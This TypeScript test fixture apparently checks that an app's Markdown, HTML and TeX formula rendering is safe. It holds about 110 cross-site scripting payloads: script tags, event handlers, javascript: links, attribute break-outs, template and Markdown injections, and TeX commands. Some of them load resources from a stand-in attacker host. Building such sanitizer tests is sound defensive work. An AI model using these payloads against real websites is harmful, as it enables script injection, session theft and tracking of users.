/** A host that must receive no request. */
export const FOREIGN = "https://evil.invalid";

// `RUN` becomes a call that the test detects, `HOST` the foreign host. One payload per line: tags, handlers, addresses,
// break-outs of attributes, scripts, comments and JSON, Markdown, templates, styles.
const lines = String.raw`
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src="HOST/x.js"></script>
<script type="module">RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script>
<script>/*</script><script>*/RUN</script>
<svg><script>RUN</script></svg>
<svg onload=RUN>
<svg/onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>go</text></a></svg>
<svg><use href="HOST/x.svg#a"/></svg>
<svg><image href="HOST/x.png" onerror=RUN /></svg>
<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>
<svg><style><img src=x: onerror=RUN></style></svg>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>
<img src=x: onerror=RUN>
<img src=x: onerror="RUN"//
<IMG SRC=x: ONERROR=RUN>
<img/src=x:/onerror=RUN>
<img src="x:" onerror="&#95;RUN;RUN">
<img src="HOST/pixel.png">
<img srcset="HOST/pixel.png 1x" src=x:>
<img src=x: onerror=eval(atob('X19lc2MoKQ==')),RUN>
<image src=x: onerror=RUN>
<picture><source srcset="HOST/p.png"><img src=x: onerror=RUN></picture>
<video src=x: onerror=RUN></video>
<video><source onerror=RUN src=x:></video>
<video poster="HOST/poster.png"></video>
<audio src=x: onerror=RUN></audio>
<audio src="HOST/a.mp3" autoplay></audio>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="HOST/frame"></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<object data="HOST/o.swf"></object>
<embed src="javascript:RUN">
<embed src="HOST/e.swf">
<body onload=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>go</button>
<marquee onstart=RUN>go</marquee>
<div style="animation-name:enter" onanimationstart=RUN>go</div>
<style>@keyframes xss{}</style><b style="animation-name:xss" onanimationstart=RUN></b>
<style>@import url(HOST/x.css);</style>
<style>*{background:url(HOST/bg.png)}</style>
<div style="background:url(HOST/bg.png)">go</div>
<link rel=stylesheet href="HOST/x.css">
<link rel=preload as=image href="HOST/x.png">
<link rel=stylesheet onerror=RUN href="x:">
<base href="HOST/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="900;url=HOST/">
<form action="javascript:RUN"><input type=submit autofocus onfocus=RUN></form>
<form><button formaction="javascript:RUN">go</button></form>
<a href="javascript:RUN">go</a>
<a href="jav&#x09;ascript:RUN">go</a>
<a href=" &#14;javascript:RUN">go</a>
<a href="data:text/html,<script>RUN</script>">go</a>
<a onmouseover=RUN href="#">go</a>
<x onclick=RUN tabindex=1 autofocus onfocus=RUN>go</x>
<noscript><p title="</noscript><img src=x: onerror=RUN>">
<template><img src=x: onerror=RUN></template>
<title><img src=x: onerror=RUN></title><img src=x: onerror=RUN>
"><script>RUN</script>
'><img src=x: onerror=RUN>
" autofocus onfocus=RUN x="
' onmouseover='RUN
"><svg onload=RUN>
--><script>RUN</script>
]]><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</script><img src=x: onerror=RUN>
"}]}</script><script>RUN</script>
\"}])</script><script>RUN</script>
\u003cimg src=x: onerror=RUN\u003e
&lt;script&gt;RUN&lt;/script&gt;<img src=x: onerror=RUN>
%3Cscript%3ERUN%3C/script%3E
{{constructor.constructor('RUN')()}}
\${RUN}
<%= RUN %>
[go](javascript:RUN)
[go](javascript&colon;RUN)
[go](<javascript:RUN>)
[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![seen](HOST/pixel.png)
![seen](x: "onerror=RUN")
![seen](HOST/p.png"onerror="RUN)
[![seen](HOST/pixel.png)](javascript:RUN)
<javascript:RUN>
`;

// TeX commands with side effects, and TeX that could become HTML.
const formulaLines = String.raw`
\href{javascript:RUN}{x}
\url{javascript:RUN}
\includegraphics{HOST/x.png}
\htmlData{onclick=RUN}{x}
\htmlStyle{background:url(HOST/bg.png)}{x}
\htmlClass{x" onmouseover="RUN}{x}
\text{<img src=x: onerror=RUN>}
\text{</mtext></math><script>RUN</script>}
\def\a{\a\a}\a <img src=x: onerror=RUN>
<math><mtext><a href="javascript:RUN">go</a></mtext></math>
`;

const liveFrom = (first: number, text: string) =>
  text
    .trim()
    .split("\n")
    .map((line, i) => line.replaceAll("RUN", `__xss(${first + i})`).replaceAll("HOST", FOREIGN));

/** A hundred texts that run `__xss(n)` or request a foreign host if they are interpreted as more than text. */
export const payloads = liveFrom(0, lines);

/** Ten more for lessons, which render formulas. */
export const formulaPayloads = liveFrom(payloads.length, formulaLines);
